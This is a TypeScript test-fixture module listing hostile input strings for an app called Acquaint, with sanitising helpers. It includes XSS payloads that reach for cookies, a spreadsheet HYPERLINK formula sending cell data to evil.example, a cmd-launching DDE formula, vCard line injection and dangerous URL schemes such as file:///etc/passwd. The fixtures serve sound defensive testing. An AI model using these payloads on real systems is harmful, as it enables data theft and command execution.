/**
 * Hostile text: what a page, an imported file or another person could put in any field Acquaint
 * keeps (a name, a headline, a "why", a note, a summary, a tag). One list for the unit and the
 * end-to-end tests, so both prove the same things: it is shown as text, nothing in it runs, the
 * layout holds, and it comes back out as it went in.
 *
 * Plain data only: no imports, no DOM, no Node APIs (the end-to-end tests pass it into pages).
 */

/** The core corpus: each [what, text]. */
export const HOSTILE_TEXTS: [string, string][] = [
  ['HTML markup', '<img src=x onerror="alert(1)"><b>bold</b>'],
  ['a script element', '<script>alert(document.cookie)</script>'],
  ['bidi overrides', '\u202Egnp.exe\u202C and \u2066isolated\u2069'],
  ['zero-width characters', 'A\u200Bd\u200Ca\u200D\u2060\uFEFF'],
  ['a 10,000-character text', 'N'.repeat(9_999) + '!'],
  ['a lone high surrogate', 'before\uD800after'],
  ['a lone low surrogate', '\uDC00 at the start'],
  ['NUL and control characters', 'a\u0000b\u0007c\u001Bd'],
];

/** More that matters where text leaves Acquaint: links, spreadsheets, contact cards. */
export const HOSTILE_EXTRA_TEXTS: [string, string][] = [
  ['a javascript: address', 'javascript:alert(document.domain)'],
  ['a link element', '<a href="javascript:alert(1)">click</a><iframe src="https://evil.example">'],
  ['HTML entities', '&lt;b&gt;entities stay as typed&lt;/b&gt; &amp; &#x41;'],
  ['a spreadsheet formula', '=HYPERLINK("https://evil.example/?"&A1,"click me")'],
  ['a plus formula', "+1+cmd|' /C calc'!A0"],
  ['a minus formula', '-2+3'],
  ['an at formula', '@SUM(1,1)'],
  ['a vCard line injection', 'Eve\r\nEMAIL:eve@evil.example\r\nEND:VCARD'],
  [
    'a bare carriage return injection',
    'Cy\rEMAIL:cy@evil.example\rEND:VCARD\rBEGIN:VCARD\rFN:Mallory',
  ],
  ['quotes, commas and semicolons', 'O\'Brien, "Bob"; Jr.\\n'],
  ['a prototype name', '__proto__'],
];

export const ALL_HOSTILE_TEXTS: [string, string][] = [...HOSTILE_TEXTS, ...HOSTILE_EXTRA_TEXTS];

/** Addresses that must never become a link or be opened. */
export const HOSTILE_URLS: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'chrome-extension://abc/options.html',
];

/** Spreadsheets run a cell that starts with one of these as a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * What a UTF-8 file holds of a text: each lone surrogate (which UTF-8 cannot encode) becomes
 * U+FFFD, as `TextEncoder` and `Blob` write it. Everything else is kept.
 */
export function wellFormed(text: string): string {
  return text.replace(
    /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g,
    '\uFFFD',
  );
}

/**
 * A display name as CONTRACT §1 reads it from a page: bidi controls and zero-width characters
 * removed, whitespace collapsed and trimmed.
 */
export function contractName(text: string): string {
  return text
    .replace(/[\u202A-\u202E\u2066-\u2069\u200E\u200F\u200B-\u200D\u2060\uFEFF\u061C]/g, '')
    .replace(/\s+/g, ' ')
    .trim();
}

/**
 * A string's UTF-16 code units: what crosses the DevTools protocol intact, where lone surrogates
 * in a string would be replaced on the way.
 */
export function codeUnits(text: string): number[] {
  return Array.from({ length: text.length }, (_, index) => text.charCodeAt(index));
}

export function fromCodeUnits(units: number[]): string {
  let text = '';
  for (let start = 0; start < units.length; start += 4096) {
    text += String.fromCharCode(...units.slice(start, start + 4096));
  }
  return text;
}
